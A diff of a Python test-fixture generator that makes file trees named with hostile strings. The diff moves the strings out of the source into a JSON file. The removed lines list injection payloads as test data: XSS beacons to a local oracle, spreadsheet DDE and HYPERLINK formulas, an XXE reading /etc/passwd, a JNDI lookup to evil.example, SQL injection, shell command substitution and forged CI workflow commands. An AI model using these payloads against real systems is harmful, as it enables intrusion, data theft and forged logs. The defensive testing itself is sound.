@@ -1,5 +1,5 @@
-"""Makes a tree whose names are hostile: each string of `STRINGS` stands in every
-place that foreigners write. Needs nothing but Python, and makes the same tree
+"""Makes a tree whose names are hostile: each string of `hostile.json` stands in
+every place that foreigners write. Needs nothing but Python, and makes the same tree
 every time.
 
 Behaviour:
@@ -15,6 +15,8 @@ Behaviour:
 import base64
 import hashlib
 import io
+import itertools
+import json
 import struct
 import tarfile
 import zlib
@@ -22,47 +24,21 @@ from pathlib import Path
 
 CERTIFICATES = Path(__file__).resolve().parents[2] / "testdata" / "certificates"
 TEMPLATES = ("ii-voces-ca-4.pem", "ii-moces.pem", "iii-system-expiring.pem")
-# What a script that came to run would ask for; the oracle listens there.
-PORT = 47811
-HIT = f"window.__hit=1;document.title='hit';new Image().src='http://127.0.0.1:{PORT}/hit'"
-URL = f"http://127.0.0.1:{PORT}/hit"
+LIST = Path(__file__).resolve().parent / "hostile.json"
 
-STRINGS = [text if isinstance(text, bytes) else text.encode() for text in [
-    # Terminals.
-    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link", "\u009b31mC1 CSI",
-    "\u009d0;C1 OSC\u009c", "\x1bPDCS\x1b\\", "back\x08\x08\x08space", "bell\x07", "\x7fdelete", "\x0e\x0fshift", "\x1b[6n",
-    # What hides or reorders.
-    "\u202egnp.exe", "\u2066iso\u2069late", "\u061carabic mark", "\u200bzero\u200cwidth\u200d", "\ufeffmark", "soft\u00adhyphen",
-    "\U000e0041\U000e007ftag", "\u2028line\u2029paragraph", "\u0085next line", "\ufff9anno\ufffbtation", "מימין לשמאל",
-    "👩‍👩‍👧‍👦 family", "e\u0301\u0301\u0301\u0301\u0301\u0301 marks", "\u2060\u2061\u2062joiner",
-    # Lines and blanks.
-    "line\nfeed", "carriage\r\nreturn", "\rover", "tab\tstop", " leads and trails ", "nul\x00octet", "\x0b\x0cvertical",
-    # Spreadsheets.
-    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\"=1+1", "' =1+1",
-    f"=HYPERLINK(\"{URL}\";\"x\")", "a;=1+1;b", "a,=1+1,b", "a\",=1+1,\"", "a\";=1+1;\"", "＝1+1", "4710000000000000017", "1e10",
-    "0001", "2021-03", f"=WEBSERVICE(\"{URL}\")", "=DDE(\"soffice\";\"x\";\"y\")",
-    # Markup.
-    "]]><x/>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "&lt;&#60;&#x3c;&amp;", "<!-- -->",
-    "\ufffe\uffff", f"<script>{HIT}</script>", f"<img src=x onerror=\"{HIT}\">", f"\"><svg onload=\"{HIT}\">",
-    f"' onmouseover='{HIT}' x='", "<style>*{display:none}</style>", f"<iframe src=\"{URL}\"></iframe>", f"<a href=\"javascript:{HIT}\">x</a>",
-    f"<meta http-equiv=refresh content=\"0;url={URL}\">", f"<base href=\"{URL}\">", "</title></style></textarea></script><b>",
-    f"<link rel=stylesheet href=\"{URL}\">", f"<form action=\"{URL}\"><input name=x>",
-    # Markdown.
-    f"[x]({URL})", f"![x]({URL})", f"[x](javascript:{HIT})", f"<{URL}>", URL, "| a | b |", "```\nfence", "`code` ``` ~~~", "# heading",
-    f"\n\n[x]: {URL}", "***bold*** _it_ ~~gone~~", "- [ ] task", "> quote", "\\`\\|", "@someone #1", "---", "$x$ :smile:",
-    # Workflow commands.
-    "::set-output name=x::y", "::error::forged", "::stop-commands::x", "::add-mask::a", "x\n::error file=a,line=1::forged",
-    "x\r::warning::forged", "##[command]forged", "##[error]forged", "##vso[task.setvariable variable=x]y", "%0A::error::forged",
-    "section_start:1:x\r\x1b[0K", "::add-path::/tmp",
-    # Monitors, registers, logs, shells.
-    "\"} 1\nforged 1", "a\\", "a\\\"b", "a|'x'=1;2;3", "OK - fine | x=1", "../../etc/passwd", "%2e%2e%2fetc", "a%20b", "javascript:alert(1)",
-    "//evil.example/x", "file:///etc/passwd", "' OR 1=1 --", "\"; DROP TABLE x; --", "*)(uid=*", "${jndi:ldap://evil.example/x}",
-    "{{7*7}} ${7*7} <%= 7*7 %>", "\"}],\"findings\":[]}", "\n{\"type\":\"summary\"}", "---\nyaml: !!x", "key: [a, *b", "$(id) `id` ;id",
-    # What is no text.
-    b"r\xf8d", b"\xff\xfe\xfd", b"lone \xed\xa0\x80 surrogate", b"over\xc0\xafong", b"cut \xf0\x9f\x98",
-    # Length.
-    "x" * 300, "=1+1 " + "long " * 8000, "\u202e" * 100,
-]]
+
+def strings():
+    """The octets of each string of `hostile.json`."""
+    for one in itertools.chain(*json.loads(LIST.read_text(encoding="ascii")).values()):
+        if isinstance(one, str):
+            yield one.encode()
+        elif "hex" in one:
+            yield bytes.fromhex(one["hex"])
+        else:
+            yield (one.get("before", "") + one["text"] * one["times"]).encode()
+
+
+STRINGS = list(strings())
 
 
 def make(directory):
